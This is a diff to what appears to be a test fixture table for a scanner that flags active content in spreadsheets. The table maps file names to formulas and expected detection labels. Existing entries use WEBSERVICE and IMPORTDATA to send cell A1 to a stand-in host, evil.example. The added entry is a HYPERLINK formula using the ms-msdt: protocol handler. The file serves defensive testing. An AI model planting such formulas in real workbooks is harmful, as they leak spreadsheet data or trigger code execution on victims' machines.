@@ -234,6 +234,7 @@ ACTIVE = {
         "a connection to other data (ddeLink)",
     ),
     "web.xlsx": (sheet('_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)'), "(WEBSERVICE)"),
+    "link-formula.xlsx": (sheet('HYPERLINK ( "ms-msdt:/id a","Page: 3")'), "(ms-msdt:/id a)"),
     "google.xlsx": (sheet('IMPORTDATA("https://evil.example/"&amp;A1)'), "(IMPORTDATA)"),
     "image.xlsx": (sheet(f'_xlfn.IMAGE("{EVIL}")'), "(IMAGE)"),
     "other-book.xlsx": (
